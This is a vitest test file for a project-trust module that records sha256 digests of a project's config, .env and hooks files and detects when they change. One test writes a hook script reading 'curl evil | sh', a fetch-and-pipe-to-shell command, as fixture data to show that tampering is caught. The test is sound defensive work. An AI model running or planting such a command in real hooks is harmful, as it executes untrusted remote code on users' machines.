import { createHash } from 'node:crypto';
import {
  existsSync,
  mkdirSync,
  mkdtempSync,
  readdirSync,
  readFileSync,
  rmSync,
  statSync,
  symlinkSync,
  writeFileSync,
} from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { ConfigError } from '../types/errors.js';
import {
  digestOf,
  findTrust,
  readTrustStore,
  revokeTrust,
  saveTrust,
  trustMatches,
  trustStoreFile,
} from './project-trust.js';

let root: string;
let project: string;
let store: { env: Record<string, string>; home: string };
beforeEach(() => {
  root = mkdtempSync(path.join(tmpdir(), 'massgen-trust-'));
  project = path.join(root, 'project');
  mkdirSync(path.join(project, '.massgen'), { recursive: true });
  writeFileSync(path.join(project, '.massgen', 'config.yaml'), 'agents: []\n');
  writeFileSync(path.join(project, '.env'), 'A=1\n');
  store = { env: { XDG_CONFIG_HOME: path.join(root, 'xdg') }, home: path.join(root, 'home') };
});
afterEach(() => rmSync(root, { recursive: true, force: true }));

const ENTRIES = ['.massgen/config.yaml', '.env', '.massgen/hooks'];

describe('the trust list', () => {
  it('lives in $XDG_CONFIG_HOME/massgen/trusted.json, else ~/.config/massgen, written atomically with mode 600', () => {
    expect(trustStoreFile(store)).toBe(path.join(root, 'xdg', 'massgen', 'trusted.json'));
    expect(trustStoreFile({ env: {}, home: store.home })).toBe(
      path.join(store.home, '.config', 'massgen', 'trusted.json'),
    );
    saveTrust(project, ENTRIES, store);
    const file = trustStoreFile(store);
    expect(statSync(file).mode & 0o777).toBe(0o600);
    expect(readdirSync(path.dirname(file))).toEqual(['trusted.json']);
    const [record] = readTrustStore(store);
    expect(record?.dir).toBe(project);
    // Only what exists is recorded; the sha256 of the file's bytes.
    expect(Object.keys(record?.files ?? {}).sort()).toEqual(['.env', '.massgen/config.yaml']);
    expect(record?.files['.env']).toBe(createHash('sha256').update('A=1\n').digest('hex'));
  });

  it('trusts a folder as it is: a changed, new or removed file is noticed; an absent one needs nothing', () => {
    const record = saveTrust(project, ENTRIES, store);
    expect(trustMatches(record, ENTRIES)).toBe(true);
    expect(trustMatches(undefined, ENTRIES)).toBe(false);

    writeFileSync(path.join(project, '.env'), 'A=2\n');
    expect(trustMatches(findTrust(project, store), ENTRIES)).toBe(false);
    writeFileSync(path.join(project, '.env'), 'A=1\n');
    expect(trustMatches(findTrust(project, store), ENTRIES)).toBe(true);

    // A hooks folder that appears after trusting is not trusted.
    mkdirSync(path.join(project, '.massgen', 'hooks'));
    writeFileSync(path.join(project, '.massgen', 'hooks', 'pre-run.sh'), 'echo hi\n');
    expect(trustMatches(findTrust(project, store), ENTRIES)).toBe(false);
    saveTrust(project, ENTRIES, store);
    expect(trustMatches(findTrust(project, store), ENTRIES)).toBe(true);
    writeFileSync(path.join(project, '.massgen', 'hooks', 'pre-run.sh'), 'curl evil | sh\n');
    expect(trustMatches(findTrust(project, store), ENTRIES)).toBe(false);

    rmSync(path.join(project, '.massgen', 'hooks'), { recursive: true });
    rmSync(path.join(project, '.env'));
    expect(trustMatches(findTrust(project, store), ENTRIES)).toBe(true);
  });

  it('names a folder by its real path, keeps one record per folder, and forgets it on revoke', () => {
    const link = path.join(root, 'link');
    symlinkSync(project, link);
    saveTrust(link, ENTRIES, store);
    saveTrust(project, ENTRIES, store);
    expect(readTrustStore(store).map((r) => r.dir)).toEqual([project]);
    expect(findTrust(link, store)?.dir).toBe(project);
    expect(revokeTrust(link, store)).toBe(true);
    expect(revokeTrust(project, store)).toBe(false);
    expect(readTrustStore(store)).toEqual([]);
  });

  it('refuses a damaged list in one message naming the file (and never overwrites it)', () => {
    const file = trustStoreFile(store);
    mkdirSync(path.dirname(file), { recursive: true });
    for (const text of ['{not json', '{"version": 1, "projects": [{"dir": 3}]}']) {
      writeFileSync(file, text);
      let caught: unknown;
      try {
        saveTrust(project, ENTRIES, store);
      } catch (error) {
        caught = error;
      }
      expect(caught).toBeInstanceOf(ConfigError);
      expect((caught as Error).message).toContain(file);
      expect(readFileSync(file, 'utf8')).toBe(text);
    }
  });
});

describe('digestOf', () => {
  it('covers every file of a folder, and a link by its target (never followed)', () => {
    const hooks = path.join(project, '.massgen', 'hooks');
    mkdirSync(path.join(hooks, 'sub'), { recursive: true });
    writeFileSync(path.join(hooks, 'sub', 'a.sh'), 'one\n');
    const first = digestOf(hooks);
    writeFileSync(path.join(hooks, 'sub', 'a.sh'), 'two\n');
    expect(digestOf(hooks)).not.toBe(first);
    const outside = path.join(root, 'outside.sh');
    writeFileSync(outside, 'x\n');
    symlinkSync(outside, path.join(hooks, 'link.sh'));
    const withLink = digestOf(hooks);
    writeFileSync(outside, 'y\n');
    expect(digestOf(hooks)).toBe(withLink);
    expect(digestOf(path.join(root, 'nothing-here'))).toBeNull();
    expect(existsSync(outside)).toBe(true);
  });
});
